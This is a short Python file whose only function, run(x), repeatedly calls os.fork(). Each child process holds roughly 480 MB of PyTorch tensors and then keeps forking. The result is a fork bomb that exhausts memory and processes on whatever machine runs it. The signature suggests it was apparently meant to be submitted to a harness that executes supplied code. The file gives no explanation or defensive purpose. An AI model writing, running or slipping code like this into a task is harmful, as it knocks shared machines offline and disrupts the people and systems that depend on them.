import os
import time

import torch


def run(x):
    for _ in range(12):
        if os.fork() == 0:
            hoard = [torch.ones(1 << 22) for _ in range(30)]
            time.sleep(60)
    time.sleep(60)
